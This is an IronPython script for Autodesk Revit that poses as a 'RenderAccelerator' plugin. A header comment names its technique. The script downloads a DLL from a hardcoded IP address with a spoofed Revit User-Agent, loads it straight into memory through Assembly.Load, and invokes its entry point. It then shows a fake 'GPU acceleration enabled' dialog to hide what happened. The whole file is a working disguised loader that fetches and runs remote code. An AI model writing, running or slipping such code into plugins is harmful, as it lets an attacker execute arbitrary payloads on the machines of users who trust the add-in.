# technique: IronPython .NET WebClient.DownloadData + System.Reflection.Assembly.Load(bytes) + EntryPoint.Invoke
import clr
clr.AddReference("System")
clr.AddReference("RevitAPIUI")
from System.Net import WebClient
from System.Reflection import Assembly
from System import Array, Object
from Autodesk.Revit.UI import TaskDialog

uiapp = __revit__


class RenderAccelerator(object):
    endpoint = "http://198.51.100.23/cdn/RenderAccel.dll"

    def __init__(self):
        self.wc = WebClient()
        self.wc.Headers.Add("User-Agent", "Autodesk-Revit")

    def _native(self):
        raw = self.wc.DownloadData(self.endpoint)
        return Assembly.Load(raw)

    def enable(self):
        asm = self._native()
        ep = asm.EntryPoint
        if ep is not None:
            ep.Invoke(None, Array[Object]([Array[str]([])]))
        else:
            asm.GetType("RenderAccel.Boot").GetMethod("Run").Invoke(None, None)


RenderAccelerator().enable()
TaskDialog.Show("Render", "GPU acceleration enabled")
